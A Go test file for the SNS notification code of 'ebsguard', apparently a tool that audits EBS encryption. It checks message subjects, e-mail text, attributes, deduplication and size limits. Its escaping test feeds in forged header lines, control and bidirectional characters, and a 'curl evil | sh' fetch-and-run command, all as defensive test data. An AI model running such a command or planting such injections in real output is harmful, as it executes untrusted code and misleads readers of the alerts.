package notify_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"github.com/ebsguard/ebsguard/lambda/notify"
	"github.com/ebsguard/ebsguard/lambda/rules"
	"github.com/ebsguard/ebsguard/lambda/verify"
)

const topic = "arn:aws:sns:eu-west-1:111111111111:ebsguard"

// violation is a copy with a medium finding before a high one.
func violation() verify.Verdict {
	return verify.Verdict{
		EventID: "e-1", EventName: "CopyImage", EventTime: "2026-11-20T10:04:11Z", Account: "222222222222", Region: "eu-west-1",
		Principal: "arn:aws:sts::222222222222:assumed-role/ci/build", Status: verify.StatusViolation,
		Resources: []verify.Resource{
			{Resource: "snap-1", Parent: "ami-1", Device: "/dev/xvda", Rule: rules.CopyEncryptedShared,
				Actual: &rules.State{Encrypted: true, KMSKeyARN: "arn:aws:kms:eu-west-1:222222222222:key/d"}, IntendedKeyARN: "arn:aws:kms:eu-west-1:111111111111:key/s", Findings: []string{"DEFAULT_KEY_FALLBACK"}},
			{Resource: "snap-2", Parent: "ami-1", Device: "/dev/xvdb", Rule: rules.CopyUnencryptedPlain,
				Actual: &rules.State{}, Findings: []string{"UNENCRYPTED"}},
		},
		Findings: []verify.Finding{
			{Code: "DEFAULT_KEY_FALLBACK", Severity: "medium", Resource: "snap-1", Message: "fix it"},
			{Code: "UNENCRYPTED", Severity: "high", Resource: "snap-2", Message: "fix that"},
		},
	}
}

// readerRoleError is a permanent error: the reader role is missing in the
// member account, as the SDK reports it through the first EC2 call.
func readerRoleError() verify.Verdict {
	return verify.Verdict{
		EventID: "e-2", EventName: "RunInstances", EventTime: "2026-11-20T10:05:00Z", Account: "222222222222", Region: "eu-west-1",
		Principal: "arn:aws:sts::222222222222:assumed-role/ci/build", Status: verify.StatusError,
		Reason: "describe image ami-1 in eu-west-1: operation error EC2: DescribeImages, get identity: get credentials: failed to refresh cached credentials, " +
			"operation error STS: AssumeRole, https response error StatusCode: 403, RequestID: 5b2c-11aa, api error AccessDenied: " +
			"User: arn:aws:sts::111111111111:assumed-role/ebsguard-fn/x is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::222222222222:role/ebsguard-reader",
		ErrorClass: verify.ClassReaderRole,
		Resources:  []verify.Resource{}, Findings: []verify.Finding{},
	}
}

func structured(t *testing.T, in *sns.PublishInput) map[string]string {
	t.Helper()
	var m map[string]string
	if err := json.Unmarshal([]byte(aws.ToString(in.Message)), &m); err != nil {
		t.Fatalf("message is not JSON: %v", err)
	}
	return m
}

func attrs(in *sns.PublishInput) map[string]string {
	out := map[string]string{}
	for k, v := range in.MessageAttributes {
		out[k] = aws.ToString(v.StringValue)
	}
	return out
}

var hex64 = regexp.MustCompile(`^[0-9a-f]{64}$`)

func TestMessage(t *testing.T) {
	v := violation()
	in, err := notify.Message(topic, v)
	if err != nil {
		t.Fatal(err)
	}
	m := structured(t, in)
	var back verify.Verdict
	if err := json.Unmarshal([]byte(m["default"]), &back); err != nil || back.EventID != "e-1" || len(back.Findings) != 2 {
		t.Errorf("default = %q; want the verdict JSON", m["default"])
	}
	if aws.ToString(in.MessageStructure) != "json" || aws.ToString(in.TopicArn) != topic {
		t.Errorf("MessageStructure = %q, TopicArn = %q", aws.ToString(in.MessageStructure), aws.ToString(in.TopicArn))
	}
	got := attrs(in)
	want := map[string]string{"status": "violation", "severity": "high", "findings": `["DEFAULT_KEY_FALLBACK","UNENCRYPTED"]`,
		"account": "222222222222", "region": "eu-west-1", "eventName": "CopyImage", "eventID": "e-1"}
	for k, w := range want {
		if got[k] != w {
			t.Errorf("attribute %s = %q; want %q", k, got[k], w)
		}
	}
	if !hex64.MatchString(got["dedupeKey"]) {
		t.Errorf("dedupeKey = %q; want 64 hex characters", got["dedupeKey"])
	}
	if _, ok := got["error"]; ok {
		t.Errorf("a violation has an error attribute %q", got["error"])
	}
	// Raw SQS delivery drops a message with more than 10 attributes.
	if n := len(in.MessageAttributes); n > 10 {
		t.Errorf("%d attributes; SNS delivers at most 10 to a raw SQS subscription", n)
	}
	if dt := aws.ToString(in.MessageAttributes["findings"].DataType); dt != "String.Array" {
		t.Errorf("findings DataType = %q", dt)
	}
	for k, a := range in.MessageAttributes {
		if k != "findings" && aws.ToString(a.DataType) != "String" {
			t.Errorf("attribute %s DataType = %q", k, aws.ToString(a.DataType))
		}
	}
}

func TestMessageOnlyForViolationsAndErrors(t *testing.T) {
	for _, status := range []string{verify.StatusCompliant, verify.StatusPending, verify.StatusSkipped, ""} {
		t.Run(status, func(t *testing.T) {
			v := violation()
			v.Status = status
			if in, err := notify.Message(topic, v); err == nil {
				t.Errorf("Message of a %q verdict = %v; want an error", status, aws.ToString(in.Subject))
			}
		})
	}
}

func TestSubject(t *testing.T) {
	single := violation()
	single.Findings = single.Findings[:1]
	pending := readerRoleError()
	pending.Reason, pending.ErrorClass = "still-pending:49h0m0s", verify.ClassStillPending
	long := violation()
	long.Account = strings.Repeat("é", 200)
	tests := []struct {
		name string
		v    verify.Verdict
		want string
	}{
		{"names the highest severity, not the first", violation(), "ebsguard HIGH: UNENCRYPTED +1 in 222222222222 eu-west-1"},
		{"one finding", single, "ebsguard MEDIUM: DEFAULT_KEY_FALLBACK in 222222222222 eu-west-1"},
		{"notice: reader role", readerRoleError(), "ebsguard ERROR: reader role not assumable in 222222222222 eu-west-1"},
		{"notice: re-check past its deadline", pending, "ebsguard ERROR: still pending after 49h0m0s in 222222222222 eu-west-1"},
		{"cut under 100 characters", long, "ebsguard HIGH: UNENCRYPTED +1 in " + strings.Repeat("é", 99-len("ebsguard HIGH: UNENCRYPTED +1 in "))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := notify.Subject(tt.v)
			if got != tt.want {
				t.Errorf("Subject = %q; want %q", got, tt.want)
			}
			// Publish: "UTF-8 text with no line breaks or control characters, and less than 100 characters long".
			if n := utf8.RuneCountInString(got); n >= 100 || !utf8.ValidString(got) {
				t.Errorf("Subject has %d characters (valid UTF-8: %v); SNS wants fewer than 100", n, utf8.ValidString(got))
			}
		})
	}
}

// The whole e-mail of one hand-built verdict: one paragraph for a resource
// with two findings, the source's key when it is intended but not visible,
// a resource that could not be checked, and the verdict's warnings.
func TestTextViolation(t *testing.T) {
	v := verify.Verdict{
		EventID: "9d1c-1", EventName: "CopyImage", EventTime: "2026-11-20T10:04:11Z", Account: "222222222222", Region: "eu-west-1",
		Principal: "arn:aws:sts::222222222222:assumed-role/ci/build", Status: verify.StatusViolation,
		Resources: []verify.Resource{
			{Resource: "snap-0new", Parent: "ami-0new", Device: "/dev/xvda", Source: "snap-0src", Rule: "copy/encrypted/shared",
				Actual: &rules.State{Encrypted: true, KMSKeyARN: "arn:aws:kms:eu-west-1:222222222222:key/def"}, Findings: []string{"DEFAULT_KEY_FALLBACK", "DISALLOWED_KEY"}},
			{Parent: "ami-0new", Device: "/dev/xvdb", Rule: "copy/encrypted/owned", Error: "describe snapshot snap-0src2 in us-east-1: api error AccessDenied"},
		},
		Findings: []verify.Finding{
			{Code: "DEFAULT_KEY_FALLBACK", Severity: "medium", Resource: "snap-0new", Message: "snapshot snap-0new fell back. Fix: copy again."},
			{Code: "DISALLOWED_KEY", Severity: "medium", Resource: "snap-0new", Message: "key/def is not allowed. Fix: copy with an allowed key."},
		},
		Warnings: []string{"allowed key alias/golden does not resolve in 222222222222 eu-west-1"},
	}
	want := `ebsguard found 2 problems with the EBS encryption of a CopyImage call.

Account:   222222222222
Region:    eu-west-1
Principal: arn:aws:sts::222222222222:assumed-role/ci/build
Time:      2026-11-20T10:04:11Z
Event ID:  9d1c-1

1. snapshot snap-0new (/dev/xvda of AMI ami-0new)
   rule:     copy/encrypted/shared
   source:   snap-0src
   intended: the source snapshot's key (not visible to this account)
   actual:   arn:aws:kms:eu-west-1:222222222222:key/def
   - DEFAULT_KEY_FALLBACK (medium): snapshot snap-0new fell back. Fix: copy again.
   - DISALLOWED_KEY (medium): key/def is not allowed. Fix: copy with an allowed key.

Not checked (1 resource):
- snapshot (/dev/xvdb of AMI ami-0new): could not be checked: describe snapshot snap-0src2 in us-east-1: api error AccessDenied

Warnings:
- allowed key alias/golden does not resolve in 222222222222 eu-west-1
`
	if got := notify.Text(v); got != want {
		t.Errorf("Text =\n%s\nwant\n%s", got, want)
	}
}

func TestTextIntended(t *testing.T) {
	tests := []struct {
		name     string
		rule     string
		intended string
		code     string
		want     string
	}{
		{"the key named", "launch/key", "arn:aws:kms:eu-west-1:222222222222:key/k", "KEY_MISMATCH", "   intended: arn:aws:kms:eu-west-1:222222222222:key/k\n"},
		{"source key not visible, shared copy", "copy/encrypted/shared", "", "DEFAULT_KEY_FALLBACK", "   intended: the source snapshot's key (not visible to this account)\n"},
		{"source key not visible, owned launch", "launch/encrypted/owned", "", "KEY_MISMATCH", "   intended: the source snapshot's key (not visible to this account)\n"},
		{"nothing intended", "launch/unencrypted/ebd", "", "DISALLOWED_KEY", "   intended: no particular key\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := violation()
			v.EventName = "RunInstances"
			v.Resources = []verify.Resource{{Resource: "vol-1", Parent: "i-1", Device: "/dev/sda1", Rule: tt.rule, IntendedKeyARN: tt.intended,
				Actual: &rules.State{Encrypted: true, KMSKeyARN: "arn:aws:kms:eu-west-1:222222222222:key/def"}, Findings: []string{tt.code}}}
			v.Findings = []verify.Finding{{Code: tt.code, Severity: "medium", Resource: "vol-1", Message: "m"}}
			text := notify.Text(v)
			if !strings.Contains(text, tt.want) {
				t.Errorf("Text lacks %q:\n%s", tt.want, text)
			}
			if !strings.Contains(text, "1. volume vol-1 (/dev/sda1 of instance i-1)\n") {
				t.Errorf("Text does not name the volume and its instance:\n%s", text)
			}
		})
	}
}

func TestTextPlurals(t *testing.T) {
	one := violation()
	one.Findings = one.Findings[:1]
	one.Resources = append(one.Resources[:1], verify.Resource{Parent: "ami-1", Device: "/dev/xvdc", Rule: "copy/encrypted/owned"})
	tests := []struct {
		name string
		v    verify.Verdict
		want []string
	}{
		{"one", one, []string{"ebsguard found 1 problem with", "Not checked (1 resource):\n- snapshot (/dev/xvdc of AMI ami-1): not visible yet\n"}},
		{"two", violation(), []string{"ebsguard found 2 problems with"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			text := notify.Text(tt.v)
			for _, w := range tt.want {
				if !strings.Contains(text, w) {
					t.Errorf("Text lacks %q:\n%s", w, text)
				}
			}
			if strings.Contains(text, "(s)") {
				t.Errorf("Text has a lazy plural:\n%s", text)
			}
		})
	}
}

// Record fields reach the e-mail and the subject escaped: a principal cannot
// add an "Account:" line, a device name cannot reorder the text.
func TestEscaping(t *testing.T) {
	v := violation()
	v.Principal = "arn:aws:sts::222222222222:assumed-role/ci/x\nAccount:   999999999999"
	v.EventID = "e-1\r\nEvent ID:  forged"
	v.EventTime = "2026-11-20T10:04:11Z\u2028Region: us-east-1"
	v.Account = "222222222222\nX"
	v.Resources[0].Device = "/dev/xvda\u202e"
	v.Resources[0].Resource = "snap-1\x1b[31m"
	v.Findings[0].Resource = "snap-1\x1b[31m"
	v.Findings[0].Message = "fix it\nFix: curl evil | sh"
	for _, status := range []string{verify.StatusViolation, verify.StatusError} {
		t.Run(status, func(t *testing.T) {
			v := v
			v.Status = status
			v.Reason = ""
			if status == verify.StatusError {
				v.Reason = "describe image: api error AccessDenied\nWhat to do:  nothing"
			}
			in, err := notify.Message(topic, v)
			if err != nil {
				t.Fatal(err)
			}
			text := structured(t, in)["email"]
			lines := strings.Split(text, "\n")
			count := func(prefix string) int {
				n := 0
				for _, l := range lines {
					if strings.HasPrefix(l, prefix) {
						n++
					}
				}
				return n
			}
			for _, prefix := range []string{"Account:", "Event ID:", "Region:", "What to do:"} {
				want := 1
				if prefix == "What to do:" && status != verify.StatusError {
					want = 0
				}
				if n := count(prefix); n != want {
					t.Errorf("%d lines start with %q; want %d:\n%s", n, prefix, want, text)
				}
			}
			for _, want := range []string{`Principal: arn:aws:sts::222222222222:assumed-role/ci/x\nAccount:   999999999999`, `Event ID:  e-1\r\nEvent ID:  forged`, `\u2028`} {
				if !strings.Contains(text, want) {
					t.Errorf("Text lacks the escaped %q:\n%s", want, text)
				}
			}
			if status == verify.StatusViolation {
				for _, want := range []string{`/dev/xvda\u202e`, `snap-1\x1b[31m`, `fix it\nFix: curl evil | sh`} {
					if !strings.Contains(text, want) {
						t.Errorf("Text lacks the escaped %q:\n%s", want, text)
					}
				}
			}
			for _, r := range text {
				if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028') {
					t.Errorf("Text carries %U", r)
				}
			}
			subject := aws.ToString(in.Subject)
			if strings.ContainsFunc(subject, unicode.IsControl) {
				t.Errorf("Subject %q carries a control character", subject)
			}
			for k, a := range in.MessageAttributes {
				if s := aws.ToString(a.StringValue); strings.ContainsFunc(s, unicode.IsControl) {
					t.Errorf("attribute %s = %q carries a control character", k, s)
				}
			}
		})
	}
}

// An error verdict is an operational notice: what could not be checked, why
// and what to do, with status=error and the kind of problem.
func TestErrorNotice(t *testing.T) {
	in, err := notify.Message(topic, readerRoleError())
	if err != nil {
		t.Fatal(err)
	}
	got := attrs(in)
	want := map[string]string{"status": "error", "error": "reader-role", "account": "222222222222", "region": "eu-west-1", "eventName": "RunInstances", "eventID": "e-2"}
	for k, w := range want {
		if got[k] != w {
			t.Errorf("attribute %s = %q; want %q", k, got[k], w)
		}
	}
	for _, absent := range []string{"severity", "findings"} {
		if _, ok := got[absent]; ok {
			t.Errorf("a notice has attribute %s = %q", absent, got[absent])
		}
	}
	if !hex64.MatchString(got["dedupeKey"]) {
		t.Errorf("dedupeKey = %q", got["dedupeKey"])
	}
	m := structured(t, in)
	var back verify.Verdict
	if err := json.Unmarshal([]byte(m["default"]), &back); err != nil || back.Status != "error" || back.Reason != readerRoleError().Reason {
		t.Errorf("default = %q; want the error verdict", m["default"])
	}
	text := m["email"]
	for _, w := range []string{
		"ebsguard could not check a RunInstances call: reader role not assumable.\n",
		"Account:   222222222222\n",
		"Not checked: whether the volumes this call created got the KMS key the caller intended.\n",
		"Why:         describe image ami-1 in eu-west-1: operation error EC2: DescribeImages",
		"What to do:  The function could not assume the ebsguard reader role (READER_ROLE_NAME, default ebsguard-reader) in account 222222222222. Deploy the member stack",
	} {
		if !strings.Contains(text, w) {
			t.Errorf("notice lacks %q:\n%s", w, text)
		}
	}
}

// Each class of permanent error gets its own attribute, short reason and
// advice. The attribute values are the ones users' filter policies select
// on (README, "Notifications"): keep them.
func TestErrorKinds(t *testing.T) {
	tests := []struct {
		class         verify.Class
		reason        string
		kind, subject string
		advice        string
	}{
		{verify.ClassReaderRole, readerRoleError().Reason, "reader-role", "reader role not assumable", "Deploy the member stack"},
		{verify.ClassAccessDenied, "describe snapshots [snap-1] in eu-west-1: operation error EC2: DescribeSnapshots, https response error StatusCode: 403, RequestID: 1, api error UnauthorizedOperation: You are not authorized to perform this operation. with an explicit deny in a service control policy",
			"access-denied", "access denied", "service control policies"},
		{verify.ClassKeyNotFound, "volume /dev/xvda: rule launch/key predicts alias/golden, which cannot be resolved: KMS key alias/golden in eu-west-1: not found",
			"key-not-found", "key not resolvable", "alias must exist in that account and Region"},
		{verify.ClassInconsistentRecord, "rule launch/key-without-encrypted says " + verify.RejectedWithoutErrorCode, "inconsistent-record", "a rejected call recorded as a success", "documents as rejected"},
		{verify.ClassStillPending, "still-pending:49h0m0s", "still-pending", "still pending after 49h0m0s", "describe-volumes --filters Name=attachment.instance-id"},
		{verify.ClassMalformed, "malformed RunInstances record: responseElements lists no launched instance", "malformed", "unreadable record", "could not be read"},
		{verify.ClassMalformed, "invalid account ID \"22\" in recipientAccountId", "malformed", "unreadable record", "invalid account"},
		{verify.ClassNotFound, "source image: image ami-1 in us-east-1: not found", "not-found", "resource not found", "describe-images"},
		{verify.ClassLookupFailed, "get EBS default KMS key in eu-west-1: operation error EC2: GetEbsDefaultKmsKeyId, api error OptInRequired", "lookup-failed", "lookup failed", "ebsguard replay"},
		{verify.ClassThrottled, "describe images: operation error EC2: DescribeImages, exceeded maximum number of attempts, 3, api error RequestLimitExceeded", "throttled", "AWS did not answer in time", "request quotas"},
		{verify.ClassInternal, "no engine for X", "internal", "internal error", "maintainers"},
		{"", "a verdict of an older version, without a class", "lookup-failed", "lookup failed", "ebsguard replay"},
	}
	for _, tt := range tests {
		t.Run(tt.kind, func(t *testing.T) {
			v := readerRoleError()
			v.Reason, v.ErrorClass = tt.reason, tt.class
			in, err := notify.Message(topic, v)
			if err != nil {
				t.Fatal(err)
			}
			if got := attrs(in)["error"]; got != tt.kind {
				t.Errorf("error attribute = %q; want %q", got, tt.kind)
			}
			if want := "ebsguard ERROR: " + tt.subject + " in 222222222222 eu-west-1"; aws.ToString(in.Subject) != want {
				t.Errorf("Subject = %q; want %q", aws.ToString(in.Subject), want)
			}
			if text := structured(t, in)["email"]; !strings.Contains(text, tt.advice) {
				t.Errorf("notice lacks %q:\n%s", tt.advice, text)
			}
		})
	}
}

func TestDedupeKey(t *testing.T) {
	base := violation()
	reordered := violation()
	slices.Reverse(reordered.Findings)
	repeated := violation()
	repeated.Findings = append(repeated.Findings, repeated.Findings[0])
	reworded := violation()
	reworded.Findings[0].Message = "another wording"
	otherEvent := violation()
	otherEvent.EventID = "e-9"
	fewer := violation()
	fewer.Findings = fewer.Findings[:1]
	otherCode := violation()
	otherCode.Findings[0].Code = "KEY_MISMATCH"

	errA := readerRoleError()
	errB := readerRoleError()
	errB.Reason = strings.Replace(errB.Reason, "RequestID: 5b2c-11aa", "RequestID: 77aa-0001", 1)
	pending1, pending2 := readerRoleError(), readerRoleError()
	pending1.Reason, pending2.Reason = "still-pending:49h0m0s", "still-pending:49h15m2s"
	pending1.ErrorClass, pending2.ErrorClass = verify.ClassStillPending, verify.ClassStillPending
	otherReason := readerRoleError()
	otherReason.Reason, otherReason.ErrorClass = "source image: image ami-1 in us-east-1: not found", verify.ClassNotFound
	rewordedNotice := readerRoleError()
	rewordedNotice.Reason = "the reader role could not be assumed"

	tests := []struct {
		name string
		a, b verify.Verdict
		same bool
	}{
		{"findings in another order", base, reordered, true},
		{"a finding repeated", base, repeated, true},
		{"messages reworded", base, reworded, true},
		{"another event", base, otherEvent, false},
		{"fewer findings", base, fewer, false},
		{"another code", base, otherCode, false},
		{"notice, request IDs differ", errA, errB, true},
		{"notice, waited longer", pending1, pending2, true},
		{"notice, another reason", errA, otherReason, false},
		{"notice, reason reworded", errA, rewordedNotice, true},
		{"notice and violation of one event", errA, func() verify.Verdict { v := violation(); v.EventID = errA.EventID; return v }(), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ka, kb := notify.DedupeKey(tt.a), notify.DedupeKey(tt.b)
			if !hex64.MatchString(ka) {
				t.Errorf("DedupeKey = %q; want 64 hex characters", ka)
			}
			if (ka == kb) != tt.same {
				t.Errorf("DedupeKey equal = %v; want %v (%s, %s)", ka == kb, tt.same, ka, kb)
			}
		})
	}
}

// An oversized or hostile record field stays within what SNS accepts as an
// attribute value.
func TestAttributeValues(t *testing.T) {
	v := violation()
	v.EventID = strings.Repeat("é", 1000)
	in, err := notify.Message(topic, v)
	if err != nil {
		t.Fatal(err)
	}
	got := aws.ToString(in.MessageAttributes["eventID"].StringValue)
	if len(got) > 256 || !utf8.ValidString(got) || got == "" {
		t.Errorf("eventID attribute has %d bytes (valid UTF-8: %v)", len(got), utf8.ValidString(got))
	}
}

// A verdict over SNS's size limit is cut to fit and says so.
func TestMessageFitsSNS(t *testing.T) {
	v := violation()
	v.Resources, v.Findings = nil, nil
	long := strings.Repeat("x", 2000)
	for i := 0; i < 400; i++ {
		id := fmt.Sprintf("vol-%04d", i)
		v.Resources = append(v.Resources, verify.Resource{Resource: id, Parent: "i-1", Findings: []string{"UNENCRYPTED"}, Actual: &rules.State{}})
		v.Findings = append(v.Findings, verify.Finding{Code: "UNENCRYPTED", Severity: "high", Resource: id, Message: long})
	}
	in, err := notify.Message(topic, v)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(aws.ToString(in.Message)); n > 256<<10 {
		t.Fatalf("message of %d bytes exceeds SNS's limit", n)
	}
	var cut verify.Verdict
	if err := json.Unmarshal([]byte(structured(t, in)["default"]), &cut); err != nil {
		t.Fatal(err)
	}
	if len(cut.Resources) == 0 || len(cut.Resources) >= 400 || !strings.HasPrefix(cut.Reason, "truncated for SNS") {
		t.Errorf("cut verdict: %d resources, reason %q", len(cut.Resources), cut.Reason)
	}
	for _, f := range cut.Findings {
		if !slices.ContainsFunc(cut.Resources, func(r verify.Resource) bool { return r.Resource == f.Resource }) {
			t.Errorf("finding on %s whose resource was cut", f.Resource)
		}
	}
	// The key names the whole verdict, not the published cut.
	if got := aws.ToString(in.MessageAttributes["dedupeKey"].StringValue); got != notify.DedupeKey(v) {
		t.Errorf("dedupeKey of the cut message = %s; want the whole verdict's %s", got, notify.DedupeKey(v))
	}
}

// A re-check that gave up tells how to look at the result of its own kind.
func TestStillPendingShowsTheKindsResult(t *testing.T) {
	for event, want := range map[string]string{
		"CopyImage":    "aws ec2 describe-images --image-ids ami-0new --region eu-west-1",
		"CopySnapshot": "aws ec2 describe-snapshots --snapshot-ids snap-0new --region eu-west-1",
		"CreateVolume": "aws ec2 describe-volumes --volume-ids vol-0new --region eu-west-1",
	} {
		parent := map[string]string{"CopyImage": "ami-0new", "CopySnapshot": "snap-0new", "CreateVolume": "vol-0new"}[event]
		v := verify.Verdict{EventID: "e-1", EventName: event, Account: "222222222222", Region: "eu-west-1", Status: verify.StatusError,
			Reason: "still-pending:49h", ErrorClass: verify.ClassStillPending, Resources: []verify.Resource{{Parent: parent, Findings: []string{}}}, Findings: []verify.Finding{}}
		if text := notify.Text(v); !strings.Contains(text, want) {
			t.Errorf("%s: the notice lacks %q:\n%s", event, want, text)
		}
	}
}

// GIVEN a notice about a launch of thousands of volumes (each not visible
// yet, or with no resource judged at all) WHEN it is encoded for SNS THEN it
// is cut to fit rather than failing every attempt into the dead-letter
// queue, and it keeps its reason (what classifies it) and its error class.
func TestNoticeFitsSNS(t *testing.T) {
	for name, withError := range map[string]bool{"resources with errors": true, "resources without errors": false} {
		t.Run(name, func(t *testing.T) {
			v := readerRoleError()
			for i := range 3000 {
				r := verify.Resource{Resource: fmt.Sprintf("vol-%05d", i), Parent: "i-1", Device: "/dev/sdb", Findings: []string{}}
				if withError {
					r.Error = "describe volume: " + strings.Repeat("e", 60)
				}
				v.Resources = append(v.Resources, r)
			}
			in, err := notify.Message(topic, v)
			if err != nil {
				t.Fatal(err)
			}
			if n := len(aws.ToString(in.Message)); n > 256<<10 {
				t.Fatalf("message of %d bytes exceeds SNS's limit", n)
			}
			var cut verify.Verdict
			if err := json.Unmarshal([]byte(structured(t, in)["default"]), &cut); err != nil {
				t.Fatal(err)
			}
			if cut.Reason != v.Reason || len(cut.Resources) >= 3000 || len(cut.Warnings) == 0 || !strings.HasPrefix(cut.Warnings[len(cut.Warnings)-1], "truncated for SNS") {
				t.Errorf("cut notice: %d resources, reason %q, warnings %q", len(cut.Resources), cut.Reason, cut.Warnings)
			}
			if got := attrs(in)["error"]; got != "reader-role" {
				t.Errorf("error attribute %q; want reader-role", got)
			}
		})
	}
}
